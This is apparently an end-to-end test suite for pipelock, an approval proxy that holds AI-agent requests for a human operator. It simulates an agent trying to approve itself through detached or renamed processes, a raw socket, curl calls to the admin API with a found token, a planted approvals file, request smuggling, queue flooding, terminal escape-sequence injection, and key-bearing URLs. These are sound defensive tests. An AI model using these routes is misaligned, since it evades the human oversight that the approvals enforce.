"""An agent on the operator's own account, outside of any sandbox, against approvals, sessions and what the operator sees."""

from __future__ import annotations

import json
import os
import shlex
import sys
import time
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from pipelock.identity.process import describe, relatives
from pipelock.identity.programs import known_programs
from pipelock.model import Level, Session
from pipelock.notify.signature import HEADER, sign
from tests.e2e.conftest import BASE_CONFIG, PIPELOCK, DaemonProcess, free_port, wait_for
from tests.e2e.origins import RecordingOrigin
from tests.e2e.shells import Shell

ABOVE = [known_programs().known(describe(relative).command) for relative in relatives(os.getpid(), whole=False)]

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(any(ABOVE), reason="an agent or an editor runs these tests: all is its, and it may decide"),
    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="programs are told apart by /proc"),
]

KEY = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
TOKEN = "test-token-of-nobody"
SECRET = "test-secret-of-nobody"
CONFIG = """\
session_profiling: {{enabled: true, domain_burst: 100}}
adaptive_enforcement: {{enabled: true}}
approvals: {{unattended: hold, timeout_seconds: 60, max_pending_per_session: 10}}
egress_rules:
  - {{name: posting needs a person, action: ask, method: POST}}
kill_switch: {{api_listen: "127.0.0.1:{port}", api_token: {token}}}
notifications:
  webhook: {{url: "http://127.0.0.1:9/hook", secret: {secret}, answers: true}}
"""


class Scene:
    """A daemon, its admin port, and an operator who is the test itself."""

    def __init__(self, home: Path, compiled: Path) -> None:
        self.port = free_port()
        config = BASE_CONFIG + CONFIG.format(port=self.port, token=TOKEN, secret=SECRET)
        self.daemon = DaemonProcess(home, config, {"PIPELOCK_KILLSWITCH_API_TOKEN": ""}, compiled)
        self.daemon.config_path.chmod(0o600)
        self.daemon.start()

    def waiting(self) -> tuple[Any, ...]:
        with self.daemon.client() as operator:
            return operator.pending()

    def clear(self) -> None:
        for item in self.waiting():
            self.daemon.cli("deny", item.id)


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory, compiled: Path) -> Iterator[Scene]:
    made = Scene(tmp_path_factory.mktemp("attacks") / "home", compiled)
    yield made
    assert made.daemon.stop() == 0


@pytest.fixture(scope="module")
def origin() -> Iterator[RecordingOrigin]:
    server = RecordingOrigin()
    yield server
    server.close()


@pytest.fixture
def new_shell(scene: Scene, tmp_path: Path) -> Iterator[Callable[[], Shell]]:
    """Terminals of the operator's, in which agents are started."""
    shells: list[Shell] = []

    def make() -> Shell:
        shells.append(Shell(scene.daemon, tmp_path / f"shell-{len(shells)}"))
        return shells[-1]

    yield make
    for shell in shells:
        shell.__exit__(None, None, None)
    scene.clear()


@pytest.fixture
def shell(new_shell: Callable[[], Shell]) -> Shell:
    return new_shell()


def post(origin: RecordingOrigin, path: str, body: bytes = b"hello", more: str = "") -> bytes:
    host = origin.url.removeprefix("http://")
    head = f"POST {origin.url}{path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{more}"
    return f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body


def claude(shell: Shell, script: str) -> str:
    """What a script says that an agent called claude runs."""
    home, script = shlex.quote(str(shell.daemon.home)), shlex.quote(f"{script}\ntrue")
    return shell.run(f"PIPELOCK_HOME={home} bash -c 'exec -a claude bash -c \"$1\"' x {script} 2>&1")


# -- approving itself --------------------------------------------------------------------------------------------------

_RAW = """
import json, socket, sys
link = socket.socket(socket.AF_UNIX)
link.connect(sys.argv[1])
lines = link.makefile("rwb", buffering=0)
lines.write(b'{"type":"hello","protocol":1,"role":"dashboard"}\\n')
print(json.loads(lines.readline())["may_decide"])
answer = {"type": "answer", "id": 1, "pending": sys.argv[2], "answer": {"word": "allow"}}
lines.write(json.dumps(answer).encode() + b"\\n")
print(json.loads(lines.readline())["result"]["code"])
"""


@pytest.mark.parametrize(
    "way",
    [
        pytest.param("{approve}", id="as a child"),
        pytest.param("setsid {approve}", id="in a process session of its own"),
        pytest.param("nohup {approve}", id="deaf to its parent"),
        pytest.param("bash -c 'exec -a bash {approve}'", id="under another name"),
        pytest.param("(sleep 0.3; {approve}) >{out} 2>&1 &", id="as an orphan"),
        pytest.param("setsid sh -c 'sleep 0.3; {approve}; true' >{out} 2>&1 &", id="as an orphan with a session"),
        pytest.param(
            "setsid sh -c 'sleep 0.3; setsid {approve}; true' >{out} 2>&1 &", id="as an orphan's child with a session"
        ),
    ],
)
def test_an_agent_can_not_approve_itself(
    scene: Scene, shell: Shell, origin: RecordingOrigin, tmp_path: Path, way: str
) -> None:
    held = shell.start(post(origin, "/self"))
    (item,) = wait_for(scene.waiting, what="a held request")
    out = tmp_path / "out"
    approve = f"{PIPELOCK} approve {item.id} --yes"
    said = claude(shell, way.format(approve=approve, out=out))
    if not said:
        wait_for(lambda: out.exists() and out.read_text(), what="the orphan's attempt")
        said = out.read_text()
    assert "you may watch but not decide" in said
    assert [one.id for one in scene.waiting()] == [item.id]
    assert not held.is_closed
    assert [seen for seen in origin.seen if seen.path == "/self"] == []


def test_nor_by_the_socket_itself_nor_is_it_somebody_who_is_there(
    scene: Scene, shell: Shell, origin: RecordingOrigin, tmp_path: Path
) -> None:
    shell.start(post(origin, "/self"))
    (item,) = wait_for(scene.waiting, what="a held request")
    program = tmp_path / "raw.py"
    program.write_text(_RAW)
    said = claude(shell, f"{sys.executable} {program} {scene.daemon.socket} {item.id}")
    assert said.split() == ["False", "forbidden"]
    with scene.daemon.client() as operator:
        assert operator.status().dashboards == 0


def test_nor_by_the_admin_api_whose_token_and_secret_it_has_found(
    scene: Scene, shell: Shell, origin: RecordingOrigin
) -> None:
    shell.start(post(origin, "/self"))
    (item,) = wait_for(scene.waiting, what="a held request")
    said = json.dumps({"id": item.id, "binding": item.binding, "nonce": "n" * 32, "word": "allow"})
    signed = f"{HEADER}: {sign(SECRET.encode(), said.encode(), int(time.time()))}"
    bearer = f"Authorization: Bearer {TOKEN}"
    base = f"http://127.0.0.1:{scene.port}/api/v1"
    curl = "curl -sS --noproxy '*' -o /dev/null -w '%{http_code} '"
    attempts = [
        f"{curl} -H '{bearer}' {base}/pending",
        f"{curl} -H '{bearer}' -d '{said}' {base}/pending/{item.id}/answer",
        f"{curl} -H '{signed}' -d '{said}' {base}/answers",
        f"""{curl} -H '{bearer}' -d '{{"active": false}}' {base}/killswitch""",
        f"{curl} -H '{bearer}' -X POST {base}/adaptive/flush",
        f"{curl} -H '{bearer}' -x {scene.daemon.url} -d '{said}' {base}/pending/{item.id}/answer",
    ]
    assert claude(shell, "; ".join(attempts)).split() == ["200", *["403"] * 5]
    assert [one.id for one in scene.waiting()] == [item.id]


def test_what_it_writes_into_approvals_yaml_is_shown_and_not_obeyed(
    scene: Scene, shell: Shell, origin: RecordingOrigin
) -> None:
    entry = (
        "approvals:\n- {id: g1, action: allow, scope: host, kind: request, host: 127.0.0.1, "
        f'port: {origin.url.rpartition(":")[2]}, rule: "posting needs a person"}}\n'
    )
    file = scene.daemon.home / "approvals.yaml"
    try:
        file.write_text(entry + "#" + "x" * 3_000_000)
        file.chmod(0o600)
        assert "+- {id: g1, action: allow" in scene.daemon.cli("approvals", "diff").stdout
        assert "No answer holds" in scene.daemon.cli("approvals", "list", check=True).stdout
        shell.start(post(origin, "/self"))
        assert len(wait_for(scene.waiting, what="a held request")) == 1
    finally:
        file.unlink()


# -- hiding behind a prompt, and wearing the operator out --------------------------------------------------------------


def test_no_request_rides_on_the_answer_to_another(scene: Scene, shell: Shell, origin: RecordingOrigin) -> None:
    before = len(origin.seen)
    others = (
        post(origin, "/shown", more="X-HTTP-Method-Override: DELETE\r\n"),
        post(origin, "/shown", more="Content-Type: application/json\r\n"),
        post(origin, "/shown", b"hellp"),
        post(origin, "/shown?"),
        post(origin, "/./shown"),
        post(origin, "/shown").replace(b"Connection: close\r\n", b"") + post(origin, "/second"),
    )
    shell.start(post(origin, "/shown"))
    (item,) = wait_for(scene.waiting, what="the request that is shown")
    for other in others:
        shell.start(other)
    wait_for(lambda: len(scene.waiting()) >= len(others), what="the others")
    scene.daemon.cli("approve", item.id, check=True)
    wait_for(lambda: len(origin.seen) > before, what="what was approved")
    time.sleep(0.3)
    sent = origin.seen[before:]
    assert {(one.method, one.path, bytes(one.body)) for one in sent} == {("POST", "/shown", b"hello")}
    assert all("x-http-method-override" not in one.headers and "content-type" not in one.headers for one in sent)


def test_a_flood_of_prompts_lets_nothing_through_and_leaves_room_for_others(
    scene: Scene, new_shell: Callable[[], Shell], origin: RecordingOrigin, tmp_path: Path
) -> None:
    before = len(origin.seen)
    one, other = new_shell(), new_shell()
    floods = [one.start(post(origin, f"/f{n}", more=f"X-Pipelock-Agent: name-{n}\r\n")) for n in range(14)]
    wait_for(lambda: sum(b"already has 10 requests waiting" in bytes(each) for each in floods) == 4, what="refusals")
    assert len(scene.waiting()) == 10
    other.start(post(origin, "/other"))
    wait_for(lambda: [item.action.url for item in scene.waiting() if item.action.url.endswith("/other")])
    assert len(origin.seen) == before


# -- drawing on the operator's terminal ----------------------------------------------------------------------------------

_EVIL = """
import ctypes, socket, sys, time
ctypes.CDLL(None).prctl(15, b"\\x1b]0;x\\x07\\n", 0, 0, 0)
link = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
link.sendall(open(sys.argv[2], "rb").read())
link.recv(100)
"""


def test_nothing_that_an_agent_calls_itself_or_sends_draws_on_the_terminal(
    scene: Scene, shell: Shell, origin: RecordingOrigin, tmp_path: Path
) -> None:
    evil = "\x1b]0;x\x07\x1b[2J\u202e\u200b\n#1 ALLOWED"
    program, request = tmp_path / f"a{evil}.py", tmp_path / "request"
    program.write_text(_EVIL)
    more = "X-Pipelock-Agent: a\x1b[31m|b@c\r\n".replace("\x1b", "\x9b") + "X-Evil: \x9b2J\x85\r\n"
    request.write_bytes(
        post(origin, "/%1b]0;x%07?q=%E2%80%AE", evil.encode()).replace(b"Host", more.encode() + b"Host")
    )
    words = [sys.executable, str(program), str(scene.daemon.port), str(request), evil]
    shell.run(f"{shlex.join(words)} </dev/null >/dev/null 2>&1 &")
    (item,) = wait_for(scene.waiting, what="a held request")
    note = f"no {evil}"
    said = [
        scene.daemon.cli("pending", check=True),
        scene.daemon.cli("approve", item.id, "--scope", "process", "--for", "5m"),
        scene.daemon.cli("deny", item.id, "--scope", "url", "--for", "5m", "--note", note, check=True),
    ]
    scene.clear()
    key = shell.session().key
    asked = [("session", "list"), ("session", "inspect", key), ("session", "explain", key), ("approvals", "list")]
    asked += [("history", evil.replace("\n", "")), ("history",), ("logs",), ("rules",)]
    said += [scene.daemon.cli(*one) for one in asked]
    for done in said:
        drawn = {char for char in done.stdout + done.stderr if unicodedata.category(char) in ("Cc", "Cf")} - {"\n"}
        assert drawn == set(), done.args
        assert "\n#1 ALLOWED" not in done.stdout


# -- washing a score -----------------------------------------------------------------------------------------------------


def test_neither_a_name_nor_a_session_nor_leaving_its_family_washes_a_score(
    scene: Scene, shell: Shell, origin: RecordingOrigin
) -> None:
    curl = f"curl -sS --noproxy none -o /dev/null -x {scene.daemon.url}"
    for number in range(2):
        shell.run(f"setsid -w {curl} -H 'X-Pipelock-Agent: new-{number}' '{origin.url}/?key={KEY}'")
    assert (shell.session().blocked, shell.session().level) == (2, Level.ELEVATED)

    def sessions() -> dict[str, Session]:
        with scene.daemon.client() as operator:
            return {one.key: one for one in operator.sessions()}

    before = sessions()
    for number in range(7):
        shell.run(f"(setsid sh -c 'sleep 0.1; {curl} \"{origin.url}/?orphan={number}&key={KEY}\"' &)")
    wait_for(lambda: len(sessions()) == len(before) + 7, what="seven sessions that nothing is tied to")
    levels = {one.level for key, one in sessions().items() if key not in before}
    assert levels == {Level.CRITICAL}
